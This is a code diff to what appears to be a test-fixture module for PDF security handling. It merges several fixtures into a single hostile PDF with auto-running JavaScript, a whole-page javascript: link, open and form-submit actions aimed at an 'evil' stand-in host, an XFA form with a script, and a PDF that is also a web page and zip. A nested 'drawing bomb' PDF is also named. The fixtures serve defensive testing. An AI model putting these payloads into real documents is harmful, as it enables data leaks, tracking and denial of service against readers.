@@ -14,42 +14,26 @@ const script = `<< /S /JavaScript /JS (app.alert\\(1\\); fetch\\('${evil}'\\)) >
 
 export const scriptText = '<script>fetch("https://evil.example")</script>';
 
-/** Scripts that start by themselves, when a page opens or as a named script. */
-export const pdfWithScripts = () =>
-  makePdf({
-    1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /Names << /JavaScript << /Names [(a) ${script}] >> >> >>`,
-    3: page(`/AA << /O ${script} >>`),
-    4: drawn('Ada Example'),
-  });
-
-/** A link over the whole page, an address that is opened at once, and a form that is sent at once. */
-export const pdfWithLinks = () =>
-  makePdf({
-    1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${evil}/open) /Next << /S /SubmitForm /F (${evil}/send) >> >> >>`,
-    3: page(
-      `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]`,
-    ),
-    4: drawn('Ada Example'),
-  });
-
-export const pdfWithXfa = () => {
+/**
+ * Scripts that start by themselves, when a page opens or as a named script, a link over the whole page, an address and a form that are
+ * opened and sent at once, a form in XML with a script, and a script that is drawn as text. It is also a web page and a zip archive.
+ */
+export const hostilePdf = () => {
   const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a" layout="tb"><pageSet><pageArea><contentArea/><medium stock="letter"/></pageArea></pageSet><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><a href="${evil}">x</a><img src="${evil}/a.png"/></body></exData></value></draw></subform></template></xdp:xdp>`;
-  return makePdf({
-    1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 5 0 R /Fields [] >> >>',
-    3: page(''),
-    4: drawn('Ada Example'),
-    5: pdfStream(Buffer.from(form)),
-  });
+  const send = `<< /S /SubmitForm /F (${evil}/send) /Next ${script} >>`;
+  const pdf = makePdf(
+    {
+      1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${evil}/open) /Next ${send} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /XFA 5 0 R /Fields [] >> >>`,
+      3: page(
+        `/AA << /O ${script} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]`,
+      ),
+      4: drawn(scriptText),
+      5: pdfStream(Buffer.from(form)),
+    },
+    { unlisted: `%${scriptText}\n` },
+  );
+  return Buffer.concat([pdf, zipBytes({ 'a.html': scriptText })]);
 };
-
-export const pdfWithDrawnScript = () => makePdf({ 3: page(''), 4: drawn(scriptText) });
-
-/** A PDF that is also a web page and a zip archive with a program in it. */
-export const polyglotPdf = () =>
-  Buffer.concat([
-    makePdf({ 3: page(''), 4: drawn('Ada Example') }, { unlisted: `%${scriptText}\n` }),
-    zipBytes({ 'a.html': scriptText }),
-  ]);
 
 /** Each form draws the next one twice: a thousand billion drawings in two kilobytes. */
 export const endlessPdf = () => {
